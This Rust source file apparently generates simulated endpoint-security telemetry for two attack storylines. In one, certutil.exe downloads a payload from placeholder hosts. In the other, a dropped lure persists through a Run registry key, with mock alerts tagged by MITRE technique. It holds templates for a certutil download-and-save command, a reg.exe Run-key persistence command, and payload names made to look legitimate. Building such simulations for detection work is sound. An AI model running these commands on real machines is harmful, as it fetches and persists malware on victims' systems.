//! Two short single-device storylines built from living-off-the-land binaries: `certutil.exe`
//! fetching a payload, and a `Run` key persisting a dropped executable.

use super::StoryRng;
use std::sync::Arc;

use super::alerts::{Detection, Ev};
use super::images::{self, Bin};
use super::{Ctx, HOUR, MIN, SEC, domain_user, running};
use crate::event::{FileEvent, Kind, RegistryEvent};
use crate::fleet::OsFamily;

const CERTUTIL: Detection = Detection {
    title: "Suspicious certutil.exe download",
    category: "CommandAndControl",
    severity: "Medium",
    av: false,
    mitre: &["T1105", "T1140"],
    description: "certutil.exe downloaded a file from the internet, a living-off-the-land technique to bring tools \
                  past controls that trust signed Windows binaries.",
};
const RUN_KEY: Detection = Detection {
    title: "Anomaly detected in ASEP registry",
    category: "Persistence",
    severity: "Medium",
    av: false,
    mitre: &["T1547.001", "T1112"],
    description: "A Run key was written so that a low-prevalence file starts with every logon.",
};

const CERTUTIL_HOSTS: &[&str] = &["files-cdn.example.com", "dl.example.net", "share-docs.example.org"];
const PAYLOADS: &[&str] = &["payload.exe", "update.exe", "svhost.exe", "setup_x64.exe", "chrome_patch.exe"];

const RUN_HIVE: &str = "HKEY_CURRENT_USER";
const RUN_KEY_PATH: &str = r"Software\Microsoft\Windows\CurrentVersion\Run";
/// (value name, folder under `%APPDATA%`)
const RUN_VALUES: &[(&str, &str)] = &[
    ("OneDriveUpdate", r"Microsoft\OneDriveUpdate"),
    ("MicrosoftEdgeAutoUpdate", r"Microsoft\EdgeUpdate"),
    ("AdobeARMHelper", r"Adobe\ARM"),
    ("SecurityHealthTray", r"Microsoft\Security"),
];
const RUN_LURES: &[&str] = &["Invoice_Viewer.exe", "Shipping_Label.exe", "Scan_Document.exe", "Payment_Details.exe"];
const RUN_HOSTS: &[&str] = &["docs-portal.example.com", "secure-files.example.net", "invoice-view.example.org"];

/// `cmd.exe` → `certutil.exe -urlcache -split -f <url> <path>` → connection and file.
pub(super) fn certutil(ctx: &mut Ctx, used: &mut [bool]) -> bool {
    let Some((v, t0)) =
        ctx.victim(used, HOUR, true, |d| d.family == OsFamily::WindowsClient && domain_user(d).is_some())
    else {
        return false;
    };
    ctx.touch(v, used);
    ctx.tags = &["Living off the land"];
    let fleet = ctx.fleet;
    let account = domain_user(&fleet.devices[v]).expect("victims have a domain user");
    let s = ctx.session(v, t0, account.clone());

    let ip: Arc<str> = format!("198.51.100.{}", ctx.rng.between(2, 255)).into();
    let name = ctx.rng.pick(PAYLOADS);
    let url: Arc<str> = format!("http://{}/{name}", ctx.rng.pick(CERTUTIL_HOSTS)).into();
    let folder = format!(r"C:\Users\{}\AppData\Local\Temp", account.name);

    let cmd = ctx.spawn(t0, v, &s.explorer, ctx.bin(v, Bin::Cmd), r#""C:\Windows\system32\cmd.exe" "#, &s.user);
    let t1 = t0 + ctx.rng.span(10 * SEC, 3 * MIN);
    let line = format!(r"certutil.exe -urlcache -split -f {url} {folder}\{name}");
    let certutil = ctx.spawn(t1, v, &cmd, ctx.bin(v, Bin::Certutil), line, &s.user);
    let t2 = t1 + ctx.rng.span(300_000_000, 2 * SEC);
    ctx.connect(t2, v, &certutil, &ip, 80, Some(&url));
    let t3 = t2 + ctx.rng.span(SEC, 5 * SEC);
    let size = ctx.rng.between(60_000, 1_500_000);
    let payload = images::dropped(&mut ctx.rng, &folder, name, size);
    ctx.file(
        t3,
        v,
        FileEvent {
            origin_url: Some(url.clone()),
            origin_ip: Some(ip.clone()),
            ..FileEvent::local("FileCreated", certutil.clone(), payload.clone())
        },
    );
    ctx.profile(&payload, false, None, t3);
    ctx.raise(
        v,
        &CERTUTIL,
        t1,
        t3,
        &account,
        None,
        vec![
            Ev::Process { process: certutil, parent: cmd },
            Ev::File(payload),
            Ev::Ip { ip, inbound: false },
            Ev::Url(url),
        ],
    );
    true
}

/// A downloaded lure copies itself under `%APPDATA%` and adds a `Run` value for the copy,
/// itself or through `reg.exe`.
pub(super) fn run_key(ctx: &mut Ctx, used: &mut [bool]) -> bool {
    let Some((v, t0)) =
        ctx.victim(used, HOUR, true, |d| d.family == OsFamily::WindowsClient && domain_user(d).is_some())
    else {
        return false;
    };
    ctx.touch(v, used);
    ctx.tags = &["Persistence"];
    let fleet = ctx.fleet;
    let account = domain_user(&fleet.devices[v]).expect("victims have a domain user");
    let s = ctx.session(v, t0, account.clone());
    let profile = account.name.to_string();

    let ip: Arc<str> = format!("198.51.100.{}", ctx.rng.between(2, 255)).into();
    let host: Arc<str> = ctx.rng.pick(RUN_HOSTS).into();
    let lure_name = ctx.rng.pick(RUN_LURES);
    let (value_name, dir) = ctx.rng.pick(RUN_VALUES);
    let edge = running(
        ctx.bin(v, Bin::Msedge),
        ctx.rng.pid(),
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default"#,
        s.explorer.created + ctx.rng.span(MIN, 30 * MIN),
        s.user.clone(),
        Some(s.explorer.as_parent()),
    );
    ctx.connect(t0, v, &edge, &ip, 443, Some(&host));
    let size = ctx.rng.between(200_000, 3_000_000);
    let lure = images::dropped(&mut ctx.rng, &format!(r"C:\Users\{profile}\Downloads"), lure_name, size);
    let t1 = t0 + ctx.rng.span(2 * SEC, 15 * SEC);
    let origin: Arc<str> = format!("https://{host}/d/{lure_name}").into();
    ctx.file(
        t1,
        v,
        FileEvent {
            origin_url: Some(origin),
            origin_ip: Some(ip),
            ..FileEvent::local("FileCreated", edge, lure.clone())
        },
    );

    let t2 = t1 + ctx.rng.span(10 * SEC, 3 * MIN);
    let dropper = ctx.spawn(t2, v, &s.explorer, lure.clone(), format!("\"{}\"", lure.folder_path), &s.user);
    let t3 = t2 + ctx.rng.span(SEC, 10 * SEC);
    let persisted =
        images::copied(&lure, &format!(r"C:\Users\{profile}\AppData\Roaming\{dir}"), &format!("{value_name}.exe"));
    ctx.file(t3, v, FileEvent::local("FileCreated", dropper.clone(), persisted.clone()));
    ctx.profile(&lure, false, Some(("Malware", "Trojan:Win32/Wacatac.H!ml")), t1);

    let t4 = t3 + ctx.rng.span(SEC, 20 * SEC);
    let data: Arc<str> = format!("\"{}\"", persisted.folder_path).into();
    let (writer, parent) = if ctx.rng.chance(0.5) {
        let line = format!(
            r#"reg.exe add HKCU\{RUN_KEY_PATH} /v {value_name} /t REG_SZ /d "\"{}\"" /f"#,
            persisted.folder_path
        );
        let reg = ctx.spawn(t4, v, &dropper, ctx.bin(v, Bin::Reg), line, &s.user);
        (reg, dropper)
    } else {
        (dropper, s.explorer.clone())
    };
    let t5 = t4.max(writer.created) + ctx.rng.span(50_000_000, SEC);
    ctx.emit(
        t5,
        v,
        Kind::Registry(RegistryEvent {
            action: "RegistryValueSet",
            initiator: writer.clone(),
            key: format!(r"{RUN_HIVE}\{RUN_KEY_PATH}").into(),
            value_type: Some("String"),
            value_name: Some(value_name.into()),
            value_data: Some(data.clone()),
            previous_value_data: None,
        }),
    );
    ctx.raise(
        v,
        &RUN_KEY,
        t3,
        t5,
        &account,
        None,
        vec![
            Ev::Process { process: writer, parent },
            Ev::File(persisted),
            Ev::Registry {
                hive: RUN_HIVE,
                key: RUN_KEY_PATH,
                value_name: value_name.into(),
                value_type: "String",
                data,
            },
        ],
    );
    true
}
